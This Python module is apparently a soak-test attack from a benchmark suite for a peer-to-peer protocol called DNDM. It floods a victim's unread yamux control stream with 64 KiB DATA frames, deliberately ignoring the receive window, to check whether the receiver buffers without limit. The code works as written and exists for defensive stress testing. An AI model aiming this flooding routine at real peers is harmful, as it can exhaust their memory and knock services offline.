"""A control stream the victim opened and never reads: we write into it past its window.

Each side of a DNDM session writes only on the control stream it opened, so the victim never
reads the one it opened to us.  A well-behaved sender stops when the stream's yamux receive
window is used up; a hostile one keeps sending DATA frames regardless, and a receiver that
buffers past the window (instead of resetting the stream or the connection, as the yamux spec
asks) holds all of it.  Sends 64 KiB frames until ``--budget-mb`` is sent.
"""

from __future__ import annotations

import struct
import sys
from typing import Any

import trio

from benchmarks.soak_attacks.peer import Report, Target, dndm_session, main

__all__ = ["CHUNK", "attack"]

#: Bytes per yamux DATA frame.
CHUNK = 64 * 1024
#: yamux frame header: version, type (0 = DATA), flags, stream id, length.
YAMUX_HEADER = "!BBHII"


async def attack(target: Target, report: Report) -> None:
    """Fill the victim's unread control stream with yamux DATA frames, ignoring its window."""
    chunk = bytes(CHUNK)
    async with dndm_session(target, read_control=False) as session:
        with trio.fail_after(10.0):
            stream = await session.victim_control.receive()
        net_stream: Any = stream
        muxed = net_stream.muxed_stream  # the yamux stream under the NetStream
        header = struct.pack(YAMUX_HEADER, 0, 0, 0, muxed.stream_id, CHUNK)
        frame = header + chunk
        sent = 0
        while sent < target.budget_bytes:
            await muxed.conn._write_frame(frame)
            sent += CHUNK
            report.stat = round(sent / 1e6, 1)
        report.details["budget_reached"] = True
        await trio.sleep_forever()


if __name__ == "__main__":
    sys.exit(main("unread_control", "MB", attack))
